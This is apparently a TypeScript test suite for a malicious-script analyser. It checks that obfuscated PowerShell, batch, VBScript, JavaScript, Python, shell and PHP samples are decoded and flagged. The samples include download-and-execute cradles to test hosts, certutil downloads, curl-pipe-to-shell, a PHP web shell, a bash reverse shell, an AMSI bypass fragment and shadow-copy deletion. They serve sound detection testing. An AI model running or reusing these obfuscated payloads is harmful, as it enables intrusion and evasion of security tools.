import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deflateRawSync, deflateSync } from 'node:zlib'
import type { ScriptLanguage } from '../../../src/data/script-languages.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'
import { threadMs } from '../../thread-ms.ts'
import { encodeScript } from './encode-script.ts'

const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const cradle = "IEX(New-Object Net.WebClient).DownloadString('http://files.test/q')"

/** Language, source, traits that must be seen, and text that a layer or URL must hold. */
const cases: readonly (readonly [string, ScriptLanguage, string, readonly string[]])[] = [
  [
    'what was fetched is started behind an address, without a blank between them',
    'batch',
    'curl -so a.exe http://files.example/a.exe&&a.exe\r\n',
    ['runs_what_it_fetched'],
  ],
  [
    'concatenation and -f',
    'powershell',
    "$a='IE'+'X'; $u=('{1}{0}' -f 'iles.test/x.ps1','http://f'); & $a (New-Object Net.WebClient).DownloadString($u)",
    ['ps_iex_download', 'executable_url'],
  ],
  [
    'backticks',
    'powershell',
    'I`E`X (n`ew-ob`ject net.webclient).DownloadString("http://files.test/a")',
    ['ps_iex_download'],
  ],
  [
    'character casts',
    'powershell',
    'IEX ([char]73+[char]69+[char]88); &([char[]](105,101,120) -join "") (iwr http://files.test/a)',
    ['ps_download_string'],
  ],
  [
    'unicode base64',
    'powershell',
    `IEX ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('${wide('Start-Process $env:TEMP\\a.exe')}')))`,
    ['ps_start_process'],
  ],
  [
    'deflated base64',
    'powershell',
    `$d=[Convert]::FromBase64String('${deflateRawSync(cradle).toString('base64')}'); IEX (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream($m)))).ReadToEnd()`,
    ['ps_decompress', 'ps_download_string'],
  ],
  [
    'xor list',
    'powershell',
    `$k=0x35; $b=@(${[...Buffer.from(cradle)].map((byte) => byte ^ 0x35).join(',')}); $b | %{ $_ -bxor 0x35 }`,
    ['ps_iex_download'],
  ],
  [
    'pipe of characters',
    'powershell',
    `(${[...Buffer.from(cradle)].join(',')} | % {[char]$_}) -join '' | iex`,
    ['ps_iex_download'],
  ],
  [
    'batch variables and encoded command',
    'batch',
    `@echo off\nset a=pow\nset b=ershell\n%a%%b% -w hidden -enc ${wide(cradle)}`,
    ['runs_powershell', 'ps_encoded_command', 'ps_iex_download'],
  ],
  [
    'batch substrings and carets',
    'batch',
    'set x=abcdefghijklmnopqrstuvwxyz\n%x:~2,1%%x:~12,1%%x:~3,1% /c c^e^r^t^u^t^i^l -urlcache -f http://files.test/a.exe a.exe',
    ['certutil_download', 'runs_cmd'],
  ],
  [
    'vbscript Chr and StrReverse',
    'vbscript',
    'Dim s\ns = Chr(87) & Chr(&H53) & "cript." & StrReverse("llehS")\nSet o = CreateObject(s)\no.Run "cmd /c po" & "wershell -w hidden", 0, False',
    ['wscript_shell', 'runs_powershell', 'window_hidden_run'],
  ],
  [
    'vbscript Execute of decoded text',
    'vbscript',
    'Execute Replace("CreateObject(""WScri##pt.Sh##ell"").Run ""calc""", "##", "")',
    ['wscript_shell'],
  ],
  [
    'javascript brackets and char codes',
    'javascript',
    "var s=new ActiveXObject('WSc'+'ript.Shell'); s['R'+'un'](String.fromCharCode(99,109,100)+' /c calc', 0)",
    ['wscript_shell', 'runs_cmd'],
  ],
  [
    'javascript reversed and split',
    'javascript',
    "var n='llehS.tpircSW'.split('').reverse().join(''); new ActiveXObject(n)",
    ['wscript_shell'],
  ],
  [
    'javascript unescape',
    'javascript',
    "eval(unescape('%6e%65%77%20ActiveXObject(%22WScript.Shell%22)'))",
    ['wscript_shell'],
  ],
  [
    'packer',
    'javascript',
    `eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p;return p}('1 0("2.3")',4,4,'ActiveXObject|new|WScript|Shell'.split('|'),0,{}))`,
    ['wscript_shell'],
  ],
  [
    'script encoder',
    'javascript',
    encodeScript("var s = new ActiveXObject('WScript.Shell');\r\ns.Run('cmd /c calc <x> @y');"),
    ['wscript_shell', 'runs_cmd'],
  ],
  [
    'python exec of compressed base64',
    'python',
    `import base64,zlib\nexec(zlib.decompress(base64.b64decode('${deflateSync('import os; os.system("curl http://files.test/x|sh")').toString('base64')}')))`,
    ['py_exec_decoded', 'pipe_to_shell'],
  ],
  [
    'shell quotes, IFS and base64',
    'shell',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the shell's own variable
    "#!/bin/sh\nw''get${IFS}-q http://files.test/m -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x\necho Y3VybCBodHRwOi8vZS5jb20vYSB8IHNo | base64 -d | sh",
    ['download_to_tmp_and_run', 'base64_pipe_shell', 'pipe_to_shell'],
  ],
  [
    'php eval chain',
    'php',
    `<?php eval(gzinflate(base64_decode('${deflateRawSync('system($_GET["c"]);').toString('base64')}'))); ?>`,
    ['runs_decoded_constant', 'web_shell'],
  ],
]

for (const [name, language, source, traits] of cases) {
  test(`reads through: ${name}`, () => {
    const { facts } = readScript(source, language)
    const seen: readonly string[] = facts.traits.map(({ id }) => id)
    for (const trait of traits) assert.ok(seen.includes(trait), `${trait} not in ${seen.join(', ')}`)
  })
}

test('what a comment says is not what the script does', () => {
  const commented: readonly (readonly [ScriptLanguage, string])[] = [
    [
      'powershell',
      `# ${cradle}\n<# [Ref].Assembly.GetType('AmsiUtils').GetField('amsiInitFailed') #>\nWrite-Host hello`,
    ],
    ['vbscript', '\' CreateObject("WScript.Shell").Run\nRem Shell "cmd /c x"\nMsgBox 1'],
    ['shell', '#!/bin/sh\n# curl http://x.test | sh\n# bash -i >& /dev/tcp/1.2.3.4/1 0>&1\necho ok'],
    ['javascript', "// new ActiveXObject('WScript.Shell').Run('x')\n/* eval(atob('x')) */ let a = 1"],
    ['batch', `@echo off\nREM powershell -enc ${wide(cradle)}\n:: vssadmin delete shadows\necho ok`],
  ]
  for (const [language, source] of commented) assert.deepEqual(readScript(source, language).facts.traits, [], language)
})

test('a function whose parameter bears the name of a constant does not run it', () => {
  const source = "var n = 'bottom-end'.replace('end', 'start')\nt.place = function(n){ return n }\n"
  const { facts } = readScript(source, 'javascript')
  assert.ok(!facts.traits.some(({ id }) => id === 'runs_decoded_constant'))
})

test('a program in base64 comes out as a payload', () => {
  const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62), Buffer.from('PE\0\0'), Buffer.alloc(300, 1)])
  program.writeUInt32LE(64, 0x3c)
  const { payloads } = readScript(`$b = [Convert]::FromBase64String("${program.toString('base64')}")`, 'powershell')
  assert.equal(Buffer.compare(payloads[0]?.bytes ?? new Uint8Array(), program), 0)
})

test('hostile scripts end in bounded time', () => {
  const hostile: readonly (readonly [ScriptLanguage, string])[] = [
    ['javascript', '['.repeat(500_000)],
    ['javascript', '('.repeat(300_000) + ')'.repeat(300_000)],
    ['javascript', '"a"+'.repeat(200_000)],
    ['javascript', "'".repeat(1_000_000)],
    ['javascript', '/'.repeat(500_000)],
    ['vba', 'a = a & "x"\n'.repeat(50_000)],
    ['vbscript', 'a = "x"\na = a & a\n'.repeat(20_000)],
    ['vbscript', '"'.repeat(1_000_001)],
    ['powershell', '`'.repeat(500_000)],
    ['powershell', "@'\n".repeat(200_000)],
    ['powershell', '1,'.repeat(400_000)],
    ['powershell', '-e '.repeat(300_000)],
    ['batch', '%a%'.repeat(300_000)],
    ['batch', '^'.repeat(1_000_000)],
    ['batch', 'set a=%a%%a%x\n'.repeat(20_000)],
    ['shell', "'".repeat(500_000)],
    ['shell', '$'.repeat(500_000)],
    ['shell', 'chmod +x curl '.repeat(50_000)],
    ['python', '"""'.repeat(200_000)],
    ['javascript', '\\x41'.repeat(300_000)],
    ['javascript', `"${'QUJD'.repeat(700_000)}"`],
    ['powershell', 'amsi '.repeat(200_000)],
    ['other', 'powershell -e '.repeat(100_000)],
  ]
  for (const [language, source] of hostile) {
    const before = threadMs()
    readScript(source, language)
    const tookMs = threadMs() - before
    assert.ok(tookMs < 5000, `${language} ${source.slice(0, 12)}: ${Math.round(tookMs)} ms`)
  }
})
